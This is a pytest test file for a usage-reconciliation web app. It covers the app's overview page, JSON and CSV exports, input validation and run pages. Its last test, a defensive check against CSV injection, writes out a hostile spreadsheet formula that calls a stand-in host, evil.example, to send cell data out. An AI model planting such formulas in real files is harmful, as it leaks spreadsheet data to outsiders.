"""The overview page, its JSON and CSV: what a finance user reads, and bad input as 400s."""

from __future__ import annotations

import csv
import io
import re
from datetime import UTC, date, datetime
from decimal import Decimal
from pathlib import Path

import pytest
import requests

from recon_job.compare import reconcile
from recon_job.models import Tolerance, Usage, UsageKey, UsageTotals
from recon_job.store import HistoryStore
from recon_job.windows import daily
from tests.web.history import KEY, record_day, usage
from tests.web.server import Running, serving

TIMEOUT = 10
NOW_RUN = datetime(2026, 3, 16, 6, 0, tzinfo=UTC)
BEARER = {"Authorization": f"Bearer {KEY}"}


def overview_json(app: Running, query: str = "") -> dict[str, object]:
    answer = requests.get(app.url(f"/usage-api?format=json{query}"), headers=BEARER, timeout=10)
    assert answer.status_code == 200, answer.text
    doc: dict[str, object] = answer.json()
    return doc


def test_the_default_range_is_the_last_seven_settled_days(app: Running) -> None:
    doc = overview_json(app)
    assert (doc["start_date"], doc["end_date"]) == ("2026-03-09", "2026-03-15")


def test_a_drifting_day_makes_the_range_a_mismatch_with_every_day_accounted_for(
    app: Running,
) -> None:
    doc = overview_json(app)
    assert doc["status"] == "mismatch"
    states = {d["date"]: (d["state"], d["reason"]) for d in doc["days"]}  # type: ignore[attr-defined]
    assert states["2026-03-09"] == ("reconciled", None)
    assert states["2026-03-13"] == ("mismatch", None)
    assert states["2026-03-14"] == ("failed", "quota_exhausted")
    assert states["2026-03-15"] == ("never", None)  # never reconciled: not zero
    assert doc["local"]["cost"] == "14.100000"  # type: ignore[index]
    assert doc["openai"]["cost"] == "15.250000"  # type: ignore[index]
    assert doc["difference"]["cost"] == "-1.150000"  # type: ignore[index]
    rows = doc["breakdown"]
    assert len(rows) == 10  # type: ignore[arg-type]
    assert {r["family"] for r in rows} == {"completions"}  # type: ignore[union-attr]
    assert doc["runs"]
    assert doc["likely_causes"]


def test_a_range_of_matching_days_is_reconciled(app: Running) -> None:
    doc = overview_json(app, "&start_date=2026-03-09&end_date=2026-03-12")
    assert doc["status"] == "reconciled"
    assert doc["difference"]["cost_pct"] == "0.000000"  # type: ignore[index]


def test_the_page_shows_the_status_totals_and_coloured_cells(app: Running) -> None:
    page = app.signed_in().get(app.url("/usage-api"), timeout=TIMEOUT).text
    assert "⚠ Mismatch Detected" in page
    assert 'class="openai-higher strong"' in page  # cost: OpenAI higher, red
    assert "failed: quota_exhausted" in page
    assert "not reconciled yet" in page
    assert '<svg class="chart"' in page
    assert "<script" not in page  # readable without JavaScript, nothing inline
    assert "http://" not in page.replace("http://127.0.0.1", "")
    assert "https://" not in page
    ok = app.signed_in().get(
        app.url("/usage-api?start_date=2026-03-09&end_date=2026-03-12"), timeout=TIMEOUT
    )
    assert "✓ Reconciled (within 5%)" in ok.text


def test_the_page_charts_drift_per_day_for_each_drifting_model(app: Running) -> None:
    """Only the 13th drifts (gpt-4o -33%, gpt-4o-mini +33%): one line per model, through the
    five reconciled days, broken off at the failed and the never-reconciled day."""
    page = app.signed_in().get(app.url("/usage-api"), timeout=TIMEOUT).text
    chart = page[page.index('<svg class="chart drift" id="drift-chart"') :]
    chart = chart[: chart.index("</svg>")]
    assert "<title" in chart
    assert 'class="band"' in chart
    paths = re.findall(r'<path d="([^"]*)" class="line"/>', chart)
    assert len(paths) == 2
    for d in paths:
        assert d.count("M") == 1
        assert d.count("L") == 4  # 03-09..03-13; 03-14 failed and 03-15 never ran
    assert chart.count("<circle") == 10
    assert "2026-03-13 gpt-4o: -33.33%" in chart
    assert "2026-03-13 gpt-4o-mini: +33.33%" in chart
    assert '<span class="key s0">gpt-4o</span>' in page
    assert '<span class="key s1">gpt-4o-mini</span>' in page


def test_a_range_without_runs_says_not_reconciled_yet(app: Running) -> None:
    doc = overview_json(app, "&start_date=2025-01-01&end_date=2025-01-03")
    assert doc["status"] == "not_reconciled"
    assert {d["state"] for d in doc["days"]} == {"never"}  # type: ignore[attr-defined]


def test_csv_export_has_one_row_per_day_family_and_model(app: Running) -> None:
    answer = requests.get(app.url("/usage-api?format=csv"), headers=BEARER, timeout=TIMEOUT)
    assert answer.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(answer.text)))
    assert len(rows) == 10
    drift = next(r for r in rows if r["date"] == "2026-03-13" and r["model"] == "gpt-4o")
    assert (drift["family"], drift["status"], drift["diff_cost"]) == (
        "completions",
        "mismatch",
        "-1.250000",
    )


def test_the_api_twin_gives_the_same_document(app: Running) -> None:
    answer = requests.get(
        app.url("/api/v1/reconciliations?start_date=2026-03-09&end_date=2026-03-15"),
        headers=BEARER,
        timeout=TIMEOUT,
    )
    assert answer.json() == overview_json(app)


@pytest.mark.parametrize(
    ("query", "message"),
    [
        ("start_date=2026-13-01", "start_date '2026-13-01' is not a date like 2026-03-14"),
        ("end_date=yesterday", "end_date 'yesterday' is not a date"),
        ("start_date=2026-03-10&end_date=2026-03-01", "end_date 2026-03-01 is before start_date"),
        ("start_date=2000-01-01&end_date=2026-01-01", "at most 400"),
        # The edges of the calendar were an OverflowError (a 500): the look-backs ran off it.
        ("start_date=9999-12-31&end_date=9999-12-31", "the last usable day is 9999-12-30"),
        ("start_date=0001-01-01&end_date=0001-01-01", "0001-01-01 is before 1970-01-01"),
        ("end_date=0001-01-03", "end_date 0001-01-03 is before 1970-01-01"),
        ("format=xml", "format 'xml' is not one of html, json, csv"),
    ],
)
def test_bad_input_is_a_400_naming_what_is_wrong(app: Running, query: str, message: str) -> None:
    api = requests.get(app.url(f"/usage-api?{query}&format=json"), headers=BEARER, timeout=10)
    if "format=xml" in query:
        api = requests.get(app.url(f"/usage-api?{query}"), headers=BEARER, timeout=TIMEOUT)
    assert api.status_code == 400
    assert message in api.json()["error"]
    page = app.signed_in().get(app.url(f"/usage-api?{query}"), timeout=TIMEOUT)
    assert page.status_code == 400
    assert "Error 400" in page.text


def test_runs_pages_filter_and_show_one_run(app: Running) -> None:
    browser = app.signed_in()
    failed = browser.get(app.url("/runs?status=failed"), timeout=TIMEOUT).text
    assert "quota_exhausted" in failed
    assert "daily:2026-03-09" not in failed
    run = requests.get(app.url("/api/v1/runs?status=mismatch"), headers=BEARER, timeout=10)
    [mismatch] = run.json()["runs"]
    detail = browser.get(app.url(f"/runs/{mismatch['run_id']}"), timeout=TIMEOUT).text
    assert "daily:2026-03-13" in detail
    assert "gpt-4o-mini" in detail
    doc = requests.get(app.url(f"/api/v1/runs/{mismatch['run_id']}"), headers=BEARER, timeout=10)
    assert {b["family"] for b in doc.json()["breakdown"]} == {"completions"}
    assert requests.get(app.url("/api/v1/runs/999"), headers=BEARER, timeout=10).status_code == 404
    assert browser.get(app.url("/runs?status=bogus"), timeout=TIMEOUT).status_code == 400


def test_an_empty_history_is_a_clear_503_not_a_crash(tmp_path: object) -> None:
    with serving(f"sqlite:///{tmp_path}/none.db") as app:
        answer = requests.get(app.url("/usage-api?format=json"), headers=BEARER, timeout=10)
        assert answer.status_code == 503
        assert "recon-job run creates it" in answer.json()["error"]


def test_families_add_up_as_in_a_run_and_untracked_ones_stand_apart(tmp_path: Path) -> None:
    """Images logged with their tokens, and speech OpenAI bills that the logs never mention: the
    overview's totals count tokens of token families only and leave the untracked family out,
    exactly as the run's own totals do; rows come completions first."""
    day = date(2026, 3, 15)
    chat = usage(100_000, 100, "2.50")
    image = Usage(input_tokens=500, output_tokens=4000, requests=2, images=2, cost=Decimal("0.16"))
    speech = Usage(characters=9000, requests=3, cost=Decimal("0.135"))
    local = {UsageKey(day, "gpt-4o"): chat, UsageKey(day, "gpt-image-1", family="images"): image}
    official = {**local, UsageKey(day, "tts-1", family="audio_speeches"): speech}
    url = f"sqlite:///{tmp_path / 'families.db'}"
    with HistoryStore(url) as store:
        result = reconcile(
            UsageTotals(groups=local),
            UsageTotals(groups=official),
            window=daily(day),
            tolerance=Tolerance(),
        )
        run_id = store.start_run(daily(day), started_at=NOW_RUN, trigger="test")
        store.finish_run(run_id, result, finished_at=NOW_RUN)

    with serving(url) as app:
        doc = overview_json(app, "&start_date=2026-03-15&end_date=2026-03-15")
        page = app.signed_in().get(
            app.url("/usage-api?start_date=2026-03-15&end_date=2026-03-15"), timeout=TIMEOUT
        )

    assert doc["status"] == "reconciled"
    assert doc["local"]["tokens"] == doc["openai"]["tokens"] == 110_000  # type: ignore[index]
    assert Decimal(doc["openai"]["cost"]) == Decimal("2.66")  # type: ignore[index]
    rows = doc["breakdown"]
    assert [r["family"] for r in rows] == ["completions", "images", "audio_speeches"]  # type: ignore[union-attr]
    assert rows[2]["status"] == "untracked"  # type: ignore[index]
    assert "audio_speeches" in page.text
    assert "images" in page.text


def test_a_cached_overview_gives_way_to_a_newly_recorded_run(
    app: Running, history_url: str
) -> None:
    def day_15() -> tuple[object, object]:
        doc = overview_json(app)
        [day] = [d for d in doc["days"] if d["date"] == "2026-03-15"]  # type: ignore[attr-defined]
        return day["state"], doc["local"]["cost"]  # type: ignore[index]

    page = app.signed_in()
    assert day_15() == ("never", "14.100000")
    assert day_15() == ("never", "14.100000")  # the second view is served from the cache
    assert "not reconciled yet" in page.get(app.url("/usage-api"), timeout=TIMEOUT).text
    with HistoryStore(history_url) as store:
        running = store.start_run(daily(date(2026, 3, 15)), started_at=NOW_RUN, trigger="test")
        assert day_15() == ("never", "14.100000")  # a run still running shows nothing yet
        store.fail_run(running, reason="timeout", message="timed out", finished_at=NOW_RUN)
        assert day_15() == ("failed", "14.100000")
        same = usage(10_000, 10, "1.00")
        record_day(store, date(2026, 3, 15), {"gpt-4o": same}, {"gpt-4o": same})
    assert day_15() == ("reconciled", "15.100000")
    shown = page.get(app.url("/usage-api"), timeout=TIMEOUT).text
    assert "not reconciled yet" not in shown
    assert "failed: timeout" not in shown


def test_the_csv_export_defuses_spreadsheet_formulas_in_names(tmp_path: Path) -> None:
    # Model names come from logs and from OpenAI: a cell starting "=" ran as a formula when the
    # export was opened in a spreadsheet (OWASP "CSV injection").
    day = date(2026, 3, 15)
    evil = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    url = f"sqlite:///{tmp_path / 'formula.db'}"
    with HistoryStore(url) as store:
        record_day(store, day, {evil: usage(1000, 1, "0.10")}, {evil: usage(1000, 1, "0.10")})
    with serving(url) as app:
        answer = requests.get(
            app.url(f"/usage-api?format=csv&start_date={day}&end_date={day}"),
            headers=BEARER,
            timeout=TIMEOUT,
        )
        doc = overview_json(app, f"&start_date={day}&end_date={day}")
    [row] = list(csv.DictReader(io.StringIO(answer.text)))
    assert row["model"] == "'" + evil
    assert row["local_cost"] == "0.100000"  # numbers, negative ones too, stay numbers
    assert doc["breakdown"][0]["model"] == evil  # type: ignore[index]  # JSON is data, kept as is
